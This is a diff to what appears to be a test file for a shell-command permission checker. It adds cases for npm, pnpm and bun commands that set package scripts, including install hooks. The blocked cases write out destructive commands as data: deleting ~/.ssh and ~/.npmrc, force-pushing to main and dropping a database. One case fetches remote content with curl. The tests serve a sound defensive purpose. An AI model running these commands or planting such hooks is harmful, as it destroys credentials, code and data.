@@ -186,3 +186,39 @@ def test_gh_repo_made_on_the_line_passes(line: str) -> None:
 @pytest.mark.parametrize("line", GH_LOOKALIKES)
 def test_gh_repo_lookalikes_ask(line: str) -> None:
     assert decide(line) != "allow"
+
+
+# Package scripts set from the command line run later (npm run NAME; prepare/postinstall on install):
+# their command is judged when it is set.
+PKG_SCRIPTS_ASKED = [
+    "npm pkg set scripts.prepare=\"rm -rf ~/.npmrc ~/.ssh\" && npm install",
+    "npm pkg set scripts.lint=\"git push --force origin HEAD:main\" && npm run lint",
+    "npm pkg set scripts.lint=\"git push --force origin HEAD:main\"",
+    "npm pkg set 'scripts.postinstall=rm -rf ~/work'",
+    "npm pkg set scripts.x=\"$CMD\" && npm run x",
+    "npm pkg set scripts.x=\"$(curl -s https://example.com/s)\"",
+    "npm pkg set scripts='{\"prepare\":\"rm -rf ~/x\"}' --json",
+    "npm pkg set scripts.prepare='\"rm -rf ~/x\"' --json",
+    "npm set-script prepare \"rm -rf ~/x\"",
+    "pnpm pkg set scripts.prepare=\"rm -rf ~/x\"",
+    "bun pm pkg set scripts.prepare=\"rm -rf ~/x\"",
+    "npm --prefix web pkg set scripts.prepare=\"rm -rf ~/x\"",
+    "npm pkg set scripts.lint=\"eslint .\" scripts.preinstall=\"dropdb app\"",
+]
+PKG_SCRIPTS_SAFE = [
+    "npm pkg set scripts.test=\"vitest run\" && npm test",
+    "npm pkg set scripts.lint=\"eslint .\" scripts.build=\"tsc -p .\"",
+    "npm pkg set name=foo version=1.2.3",
+    "npm pkg get scripts",
+    "npm pkg set scripts.clean=\"rm -rf dist\"",
+]
+
+
+@pytest.mark.parametrize("line", PKG_SCRIPTS_ASKED)
+def test_package_scripts_set_are_judged(line: str) -> None:
+    assert decide(line) != "allow"
+
+
+@pytest.mark.parametrize("line", PKG_SCRIPTS_SAFE)
+def test_package_scripts_set_safe(line: str) -> None:
+    assert decide(line) == "allow"
